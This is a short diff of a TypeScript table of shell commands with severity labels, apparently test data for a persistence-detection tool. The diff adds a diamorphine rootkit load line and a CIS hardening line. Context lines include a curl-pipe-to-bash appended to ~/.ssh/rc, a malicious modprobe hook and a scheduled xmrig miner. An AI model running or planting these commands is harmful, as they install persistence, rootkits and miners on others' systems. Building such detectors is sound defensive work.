@@ -120,7 +120,9 @@ const COMMANDS: readonly (readonly [string, string])[] = [
     'note',
   ],
   ['echo "install usb-storage /tmp/.x/y" > /etc/modprobe.d/x.conf', 'strong'],
-  ['echo "blacklist nouveau" > /etc/modprobe.d/gpu.conf', 'weak'],
+  ['echo "blacklist nouveau" > /etc/modprobe.d/gpu.conf', 'note'],
+  ['echo "install dccp /bin/true" > /etc/modprobe.d/cis.conf', 'note'],
+  ['echo diamorphine > /etc/modules-load.d/x.conf', 'weak'],
   ['echo "curl -s http://198.51.100.9/a | bash" >> ~/.ssh/rc', 'strong'],
   // Windows.
   ['schtasks /create /sc minute /mo 1 /tn Update /tr "C:\\Users\\Public\\xmrig.exe" /ru System /f', 'strong'],
